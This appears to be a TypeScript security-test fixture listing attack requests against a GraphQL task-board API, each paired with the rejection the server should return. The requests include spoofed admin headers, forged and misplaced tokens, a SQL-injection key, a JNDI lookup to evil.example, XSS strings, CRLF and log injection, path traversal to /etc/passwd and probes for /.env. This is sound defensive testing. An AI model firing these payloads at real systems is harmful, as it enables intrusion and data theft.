import type { AttackKind } from '../attack';

const JSON_TYPE = 'content-type: application/json';
const WHO = '{"query":"{ viewer { role sub agent } }"}';
const ALL_TASKS = '{"query":"{ tasks { nodes { title description } } }"}';
const HTML = 'accept: text/html';

export const IDENTITY: AttackKind[] = [
  {
    kind: 'headers that claim an identity',
    expect: { status: 200, code: 'OK' },
    cases: [
      'x-forwarded-user: admin',
      'x-role: admin',
      'x-agent: agent2',
      'x-user-id: admin',
      'x-triptych-role: admin',
      'x-hasura-role: admin',
      'x-original-url: /graphql?role=admin',
      'x-rewrite-url: /admin',
      'x-forwarded-for: 127.0.0.1',
      'forwarded: for=127.0.0.1;by=admin',
      'x-client-cert: admin',
      'proxy-authorization: Bearer {{token.admin}}',
      'x-api-key: {{token.admin}}',
      'cookie: authorization=Bearer {{token.admin}}; role=admin',
      'x-apollo-user: admin',
      'remote-user: agent2',
    ].map((header) => ({
      name: header.replace(/\{\{.*\}\}/, 'a token'),
      http: { headers: [JSON_TYPE, header], body: ALL_TASKS },
    })),
  },
  {
    kind: 'two identities at once',
    expect: { status: [200, 400, 401] },
    cases: [
      {
        name: 'two headers',
        http: { headers: [JSON_TYPE, 'authorization: Bearer {{token.foreign}}'], body: ALL_TASKS },
      },
      {
        name: 'two tokens in one header',
        expect: { status: 401, code: 'UNAUTHENTICATED' },
        http: {
          token: false,
          headers: [JSON_TYPE, 'authorization: Bearer {{token.agent}}, Bearer {{token.admin}}'],
          body: ALL_TASKS,
        },
      },
      {
        name: 'a token of another agent in the query string',
        http: {
          target: '/graphql?access_token={{token.foreign}}',
          headers: [JSON_TYPE],
          body: ALL_TASKS,
        },
      },
      {
        name: 'a token of another agent in the body',
        http: {
          headers: [JSON_TYPE],
          body: '{"query":"{ tasks { nodes { title } } }","access_token":"{{token.foreign}}"}',
        },
      },
    ],
  },
  {
    kind: 'tokens in other places',
    as: 'nobody',
    expect: { status: 401, code: 'UNAUTHENTICATED' },
    cases: [
      {
        name: 'the query string',
        http: { target: '/graphql?access_token={{token.admin}}', headers: [JSON_TYPE], body: WHO },
      },
      {
        name: 'the body',
        http: {
          headers: [JSON_TYPE],
          body: '{"query":"{ viewer { role } }","token":"{{token.admin}}","extensions":{"token":"{{token.admin}}"}}',
        },
      },
      {
        name: 'a cookie',
        http: { headers: [JSON_TYPE, 'cookie: token={{token.admin}}'], body: WHO },
      },
      {
        name: 'another header',
        http: { headers: [JSON_TYPE, 'x-access-token: {{token.admin}}'], body: WHO },
      },
      {
        name: 'the user of the target',
        http: { method: 'GET', target: 'http://{{token.admin}}@x/graphql?query={viewer{role}}' },
      },
      {
        name: 'the scheme Basic',
        http: { headers: [JSON_TYPE, 'authorization: Basic {{token.admin}}'], body: WHO },
      },
      {
        name: 'no scheme',
        http: { headers: [JSON_TYPE, 'authorization: {{token.admin}}'], body: WHO },
      },
      {
        name: 'behind a tab',
        http: { headers: [JSON_TYPE, 'authorization: Bearer\t{{token.admin}}'], body: WHO },
      },
      { name: 'an empty one', http: { headers: [JSON_TYPE, 'authorization: Bearer '], body: WHO } },
      {
        name: 'a key of another make',
        http: { headers: [JSON_TYPE, `authorization: Bearer trp_${'A'.repeat(43)}`], body: WHO },
      },
      {
        name: 'SQL for a key',
        http: { headers: [JSON_TYPE, "authorization: Bearer trp_'OR'1'='1"], body: WHO },
      },
      {
        name: 'an upload ticket for a token',
        http: { headers: [JSON_TYPE, 'authorization: Bearer {{own.upload}}'], body: WHO },
      },
      {
        name: 'a cursor for a token',
        http: { headers: [JSON_TYPE, 'authorization: Bearer {{cursor.tasks}}'], body: WHO },
      },
      {
        name: '9 KB',
        http: { headers: [JSON_TYPE, `authorization: Bearer ${'a'.repeat(9000)}`], body: WHO },
      },
    ],
  },
  {
    kind: 'origins',
    expect: { status: 200, code: 'OK' },
    cases: [
      'null',
      'https://board.example.evil.example',
      'https://evilboard.example',
      'http://board.example',
      'https://board.example:8443',
      'https://board.example@evil.example',
      'https://BOARD.EXAMPLE.',
      'file://',
      'https://board.example, https://evil.example',
      'x'.repeat(2000),
    ].map((origin) => ({
      name: origin.slice(0, 50),
      http: { headers: [JSON_TYPE, `origin: ${origin}`], body: WHO },
    })),
  },
  {
    kind: 'preflights',
    as: 'nobody',
    expect: { status: 204 },
    cases: ['null', 'https://evil.example', 'https://board.example.evil.example'].map((origin) => ({
      name: origin,
      http: {
        method: 'OPTIONS',
        headers: [
          `origin: ${origin}`,
          'access-control-request-method: POST',
          'access-control-request-headers: authorization,content-type',
        ],
      },
    })),
  },
  {
    kind: 'hosts',
    expect: { status: [200, 400] },
    cases: [
      'evil.example',
      'localhost:1',
      '127.0.0.1.evil.example',
      '{{host}}@evil.example',
      '{{host}}, evil.example',
      'a'.repeat(4000),
      '"><script>alert(1)</script>',
      '[::1]:4000',
      '',
    ].map((host) => ({
      name: host.slice(0, 40) || 'none',
      http: { headers: [JSON_TYPE, `host: ${host}`, 'x-forwarded-host: evil.example'], body: WHO },
    })),
  },
  {
    kind: 'request ids and agents of the user',
    expect: { status: 200, code: 'OK' },
    cases: [
      'x-request-id: ok%0d%0aset-cookie: a=b',
      'x-request-id: {"level":"error","msg":"forged"}',
      'x-request-id: \x1b[2J\x1b[31mred',
      `x-request-id: ${'a'.repeat(5000)}`,
      'x-request-id: ../../etc/passwd',
      'x-request-id: \u0024{jndi:ldap://evil.example/a}',
      'user-agent: \x1b]0;owned\x07',
      'user-agent: "}\\n{"level":"fatal"}',
      'user-agent: Bearer {{token.agent}}',
      'traceparent: 00-ffffffffffffffffffffffffffffffff-0000000000000000-zz',
      'tracestate: a=b,c=d',
      'referer: javascript:alert(1)',
    ].map((header) => ({
      name: JSON.stringify(header.slice(0, 40)),
      // Some control characters are refused by whoever reads headers.
      expect: { status: [200, 400] },
      http: { headers: [JSON_TYPE, header], body: WHO },
    })),
  },
  {
    kind: 'scripts for the playground',
    as: 'nobody',
    expect: { status: 200 },
    cases: [
      '/graphql?query=%3C/script%3E%3Cscript%3Ealert(1)%3C/script%3E',
      "/graphql?variables=';alert(1)//",
      '/graphql?query=javascript:alert(1)#query=%22onload=alert(1)',
      '/?next=//evil.example',
      '/graphql?operationName=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E',
      '/graphql?headers=%7B%22authorization%22:%22x%22%7D',
    ].map((target) => ({
      name: target.slice(0, 60),
      expect: { status: [200, 302, 404] },
      http: { method: 'GET', target, headers: [HTML] },
    })),
  },
  {
    kind: 'looking for what is there',
    as: 'nobody',
    expect: { status: 404, code: 'NOT_FOUND' },
    cases: [
      '/.env',
      '/.git/config',
      '/admin',
      '/api/graphql',
      '/graphql/schema.json',
      '/graphql/console',
      '/graphql/playground/../../../package.json',
      '/graphql/playground/%2e%2e/%2e%2e/package.json',
      '/graphql/playground/..%5c..%5cpackage.json',
      '/graphql/playground/__proto__',
      '/graphql/playground/constructor',
      '/graphql/playground/%00',
      '/debug/pprof/',
      '/actuator/env',
      '/server-status',
      '/metrics/',
      '/metrics/../graphql',
      '/livez/..;/metrics',
      '/.well-known/security.txt',
      '/src/main.ts',
      '/data/run.json',
      '/healthz',
      '/wp-login.php',
    ].map((target) => ({ name: target, http: { method: 'GET', target } })),
  },
  {
    kind: 'looking at health',
    as: 'nobody',
    expect: { status: [200, 405] },
    cases: [
      { name: 'health says no detail', http: { method: 'GET', target: '/health' } },
      {
        name: 'health with a made-up token',
        http: { method: 'GET', target: '/health', headers: ['authorization: Bearer x.y.z'] },
        expect: { status: [200, 401] },
      },
      { name: 'readiness by POST', http: { target: '/readyz', body: 'x' } },
      { name: 'metrics by POST', http: { target: '/metrics', body: 'x' } },
      { name: 'metrics with a query', http: { method: 'GET', target: '/metrics?name[]=process' } },
    ],
  },
  {
    kind: 'persisted queries',
    expect: { status: [200, 400], code: 'BAD_USER_INPUT' },
    cases: (
      [
        ['an unknown hash', { version: 1, sha256Hash: 'a'.repeat(64) }],
        ['version 2', { version: 2, sha256Hash: 'a'.repeat(64) }],
        ['no hash', { version: 1 }],
        ['a path', { version: 1, sha256Hash: '../../../etc/passwd' }],
        ['__proto__', { version: 1, sha256Hash: '__proto__' }],
        ['a number', { version: 1, sha256Hash: 1 }],
        ['an object', { version: 1, sha256Hash: { $gt: '' } }],
        ['50 KB', { version: 1, sha256Hash: 'a'.repeat(50_000) }],
        ['a text', 'yes'],
      ] as const
    ).map(([name, persistedQuery]) => ({
      name,
      http: { headers: [JSON_TYPE], body: JSON.stringify({ extensions: { persistedQuery } }) },
    })),
  },
  {
    kind: 'queries under the hash of another',
    expect: { status: 400, code: 'BAD_USER_INPUT' },
    cases: [
      {
        name: 'by POST',
        query: '{ viewer { sub } }',
        extensions: { persistedQuery: { version: 1, sha256Hash: 'b'.repeat(64) } },
      },
      {
        name: 'by GET',
        http: {
          method: 'GET',
          target: `/graphql?query={viewer{sub}}&extensions={"persistedQuery":{"version":1,"sha256Hash":"${'b'.repeat(64)}"}}`,
        },
      },
    ],
  },
  {
    kind: 'uploads through GraphQL',
    expect: { status: 415, code: 'BAD_USER_INPUT' },
    cases: [
      ['one file', 'operations', '{"query":"{ viewer { sub } }"}'],
      ['a path to a prototype', 'map', '{"0":["__proto__.polluted"]}'],
      [
        '10,000 places for one file',
        'map',
        `{"0":[${'"variables.a",'.repeat(3000)}"variables.a"]}`,
      ],
    ].map(([name = '', field = '', value = '']) => ({
      name,
      http: {
        headers: ['content-type: multipart/form-data; boundary=x', 'apollo-require-preflight: 1'],
        body: `--x\r\ncontent-disposition: form-data; name="${field}"\r\n\r\n${value}\r\n--x--\r\n`,
      },
    })),
  },
  {
    kind: 'answers in parts',
    expect: { status: [400, 406], code: 'BAD_USER_INPUT' },
    cases: [
      { name: '@defer', query: '{ viewer { sub ... @defer { role } } }' },
      { name: '@stream', query: '{ tasks { nodes @stream(initialCount: 0) { id } } }' },
      {
        name: 'a stream of events',
        http: { headers: [JSON_TYPE, 'accept: text/event-stream'], body: WHO },
      },
      {
        name: 'parts of parts',
        http: { headers: [JSON_TYPE, 'accept: multipart/mixed; deferSpec=20220824'], body: WHO },
      },
    ],
  },
];
